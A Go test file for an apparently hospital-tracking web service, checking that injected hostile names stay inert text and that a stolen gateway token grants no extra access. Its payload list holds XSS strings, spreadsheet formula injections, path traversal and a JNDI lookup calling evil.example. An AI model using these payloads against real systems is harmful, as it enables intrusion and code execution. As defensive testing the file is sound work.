package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	paho "github.com/eclipse/paho.mqtt.golang"

	"wardwatch/db"
	"wardwatch/tracking/hospital"
	"wardwatch/tracking/hospital/account"
	"wardwatch/tracking/hospital/document"
	"wardwatch/tracking/ingest/mqtt"
)

// payloads are names as somebody would choose them who wishes us ill. Each begins so
// that it can be looked for in what comes out.
var payloads = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`'-alert(1)-'`,
	`=HYPERLINK("http://evil.example","x")`,
	`+1+cmd|' /C calc'!A0`,
	`@SUM(1)`,
	`{{constructor.constructor('x')()}}`,
	`javascript:alert(1)`,
	`../../etc/passwd`,
	`${jndi:ldap://evil.example/x}`,
	`%s%n%x`,
	"é\u202egnp.exe",
	"\u2067lagel\u2069 \u202bx",
	`"quoted" 'twice' & <b>bold</b>`,
	`\";alert(1);//`,
	`]]></text><svg onload=alert(1)>`,
	`=1+1;|cmd`,
	strings.Repeat("long ", 21) + "end",
}

// hostileHospital is the small hospital with such names wherever a name is free text.
func hostileHospital(t *testing.T) document.Document {
	t.Helper()
	text, err := os.ReadFile(smallHospital)
	if err != nil {
		t.Fatal(err)
	}
	var tree any
	if err := json.Unmarshal(text, &tree); err != nil {
		t.Fatal(err)
	}
	n := 0
	spoilNames(tree, &n)
	if text, err = json.Marshal(tree); err != nil {
		t.Fatal(err)
	}
	doc, err := document.Parse(text)
	if err != nil {
		t.Fatal(err)
	}
	return doc
}

// freeText are the fields that take any text.
var freeText = map[string]bool{"name": true, "model": true, "serial": true, "account": true, "supplier_code": true}

func spoilNames(value any, n *int) {
	switch value := value.(type) {
	case map[string]any:
		for key, inner := range value {
			if _, isText := inner.(string); isText && freeText[key] {
				value[key] = fmt.Sprintf("%s %d", payloads[*n%len(payloads)], *n)
				*n++
				continue
			}
			spoilNames(inner, n)
		}
	case []any:
		for _, inner := range value {
			spoilNames(inner, n)
		}
	}
}

// Names that are code stay text on every page, in every file and in the log, whoever looks.
func TestHostileNamesStayTextOnEveryScreen(t *testing.T) {
	t.Parallel()
	var log bytes.Buffer
	c := config{HTTP: "127.0.0.1:0", MQTT: "127.0.0.1:0", DB: "sqlite:" + filepath.Join(t.TempDir(), "w.db"), MailFrom: "wardwatch@linden.example"}
	d, err := db.Open(t.Context(), c.DB, db.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := (db.Hospital{DB: d}).Import(t.Context(), hospital.Job("test"), hostileHospital(t), true); err != nil {
		t.Fatal(err)
	}
	if err := d.Close(); err != nil {
		t.Fatal(err)
	}
	h, err := build(t.Context(), c, newLog(&log, slog.LevelDebug), time.Now)
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := h.close(); err != nil {
			t.Error(err)
		}
	}()
	order := ordered(t, h)
	pages, files, papers, books, shown := 0, 0, 0, 0, 0
	for _, v := range visitors(t, h) {
		for _, r := range h.door.Routes() {
			if r.Method != http.MethodGet || r.Path == "/live" || r.Path == "/live.json" || strings.HasPrefix(r.Path, "/static") {
				continue
			}
			answer := v.ask(http.MethodGet, strings.Replace(placeOf(r), "/orders/1", "/orders/"+order.Number, 1))
			body, kind := answer.Body.String(), answer.Header().Get("Content-Type")
			if body != "" && (kind == "" || strings.HasPrefix(kind, "text/") && !strings.Contains(strings.ToLower(kind), "charset=utf-8")) {
				t.Errorf("GET %s does not say what it is: %q", r.Path, kind)
			}
			switch {
			case strings.HasPrefix(kind, "text/html"):
				pages++
				for _, raw := range []string{"<script>alert", "<img src=x", "<svg onload", "<b>bold", ` href="javascript:alert`, ` src="javascript:alert`, ` action="javascript:alert`, `='-alert`} {
					if strings.Contains(body, raw) {
						t.Errorf("GET %s for the %s holds %s", r.Path, v.name, raw)
					}
				}
				if strings.Contains(body, "&lt;script&gt;alert(1)") {
					shown++
				}
			case strings.HasPrefix(kind, "text/csv"):
				files++
				plainCells(t, r.Path, body)
			case strings.Contains(kind, "spreadsheetml"):
				books++
				if sheet := unpacked(t, kind, answer.Body.Bytes()); strings.Contains(sheet, "<f>") || strings.Contains(sheet, "<f ") || strings.Contains(sheet, "<script>") {
					t.Errorf("GET %s holds a formula or markup", r.Path)
				}
			case kind == "application/pdf":
				papers++
				for _, active := range []string{"/JavaScript", "/JS", "/OpenAction", "/Launch", "/Filespec", "/URI (javascript"} {
					if strings.Contains(body, active) {
						t.Errorf("GET %s holds %s", r.Path, active)
					}
				}
			case strings.Contains(kind, "json"):
				if answer.Code == http.StatusOK && !json.Valid(answer.Body.Bytes()) && !strings.Contains(kind, "jsonl") {
					t.Errorf("GET %s is no JSON", r.Path)
				}
			}
			if !strings.Contains(kind, "json") && strings.ContainsAny(body, "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") && !strings.Contains(kind, "pdf") && !strings.Contains(kind, "spreadsheetml") {
				t.Errorf("GET %s for the %s turns the direction of reading", r.Path, v.name)
			}
		}
	}
	if pages < 100 || files == 0 || shown == 0 || papers == 0 || books == 0 {
		t.Errorf("%d pages, %d of them with a script as text, %d files, %d spreadsheets and %d papers were looked at", pages, shown, files, books, papers)
	}
	for line := range strings.Lines(log.String()) {
		if !strings.HasPrefix(line, "time=") || strings.ContainsAny(line, "\u202e\u2067\x1b") {
			t.Errorf("the log has a line of its own: %s", line)
		}
	}
}

// plainCells sees to it that no cell of a spreadsheet begins as a formula does.
func plainCells(t *testing.T, path, text string) {
	t.Helper()
	reader := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\ufeff")))
	reader.FieldsPerRecord = -1
	rows, err := reader.ReadAll()
	if err != nil {
		t.Errorf("GET %s: %v", path, err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
				t.Errorf("GET %s has the formula %q", path, cell)
			}
		}
	}
}

// Whoever steals a gateway's token can deliver as that gateway, and nothing else: not
// read, not speak for another, not fill the memory.
func TestAStolenGatewayTokenReadsNothingSpeaksForNobodyElseAndFillsNoMemory(t *testing.T) {
	t.Parallel()
	folder := t.TempDir()
	importSmallHospital(t, filepath.Join(folder, "w.db"))
	var now atomic.Int64 // where the house's clock stands, in nanoseconds; 0 while it goes
	h, _ := openAt(t, "sqlite:"+filepath.Join(folder, "w.db"), func() time.Time {
		if at := now.Load(); at != 0 {
			return time.Unix(0, at)
		}
		return time.Now()
	})
	_, stolen, err := account.NewKeys(db.Accounts{DB: h.db}, h.now).Add(t.Context(), hospital.Job("test"), "stolen", "gw-01")
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range h.door.Routes() {
		if r.Path == "/live" || r.Path == "/ingest" {
			continue
		}
		status, said := thief(t, h, stolen.Reveal(), r.Method, placeOf(r), "")
		public := !needsSession(r) && r.Path != "/metrics" // which this machine may read without any token
		if !public && r.Path != "/metrics" && status == http.StatusOK && !strings.HasPrefix(r.Path, "/sign-in") {
			t.Errorf("%s %s answers %d", r.Method, r.Path, status)
		}
		if strings.Contains(said, "P-001") {
			t.Errorf("%s %s tells what is here", r.Method, r.Path)
		}
	}
	foreign := `{"sightings":[{"tag":"c0ffee000001","gateway":"rd-01","rssi_dbm":-60}]}`
	if status, said := thief(t, h, stolen.Reveal(), http.MethodPost, "/ingest", foreign); status == http.StatusOK && !strings.Contains(said, `"accepted":0`) {
		t.Errorf("it spoke for another: %d %s", status, said)
	}
	if status, _ := thief(t, h, stolen.Reveal(), http.MethodPost, "/ingest", strings.Repeat("x", 2<<20)); status != http.StatusRequestEntityTooLarge {
		t.Errorf("two megabytes: %d", status)
	}
	if status, _ := thief(t, h, stolen.Reveal(), http.MethodPost, "/ingest", strings.Repeat(`[`, 1<<19)); status != http.StatusBadRequest {
		t.Errorf("a deep nest: %d", status)
	}
	listen(t, h, stolen.Reveal())
	now.Store(time.Now().UnixNano()) // the clock stands: a slow machine asks no slower than another
	slowed := 0
	for range 3000 {
		if status, _ := thief(t, h, stolen.Reveal(), http.MethodPost, "/ingest", "{}"); status == http.StatusTooManyRequests {
			slowed++
			break
		}
	}
	if slowed == 0 {
		t.Error("nothing slows it down")
	}
	unsaid := fmt.Sprintf("%d connections, %d MiB a packet, %d unacknowledged", mqtt.MaxConnections, mqtt.MaxPacket>>20, mqtt.MaxUnacknowledged)
	t.Log("what it may hold at most: " + unsaid)
}

// thief sends a request with a stolen token.
func thief(t *testing.T, h *house, token, method, path, body string) (int, string) {
	t.Helper()
	r, err := http.NewRequestWithContext(t.Context(), method, "http://"+h.pages.Addr().String()+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	r.Header.Set("Authorization", "Bearer "+token)
	answer, err := http.DefaultTransport.RoundTrip(r)
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()
	var said bytes.Buffer
	if _, err := said.ReadFrom(answer.Body); err != nil {
		t.Fatal(err)
	}
	return answer.StatusCode, said.String()
}

// listen tries to hear what others publish.
func listen(t *testing.T, h *house, token string) {
	t.Helper()
	client := paho.NewClient(paho.NewClientOptions().AddBroker("tcp://" + h.broker.Address()).SetClientID("gw-01").SetUsername("gw-01").SetPassword(token).SetConnectTimeout(patience))
	if connected := client.Connect(); !connected.WaitTimeout(patience) || connected.Error() != nil {
		t.Fatal(connected.Error())
	}
	defer client.Disconnect(0)
	for _, topic := range []string{"#", "wardwatch/v1/#", "wardwatch/v1/rd-01/readings", "$SYS/#"} {
		granted := client.Subscribe(topic, 1, func(paho.Client, paho.Message) { t.Errorf("it hears %s", topic) })
		if granted.WaitTimeout(patience); granted.Error() == nil {
			if code := granted.(*paho.SubscribeToken).Result()[topic]; code < 0x80 {
				t.Errorf("it may listen to %s: %d", topic, code)
			}
		}
	}
}
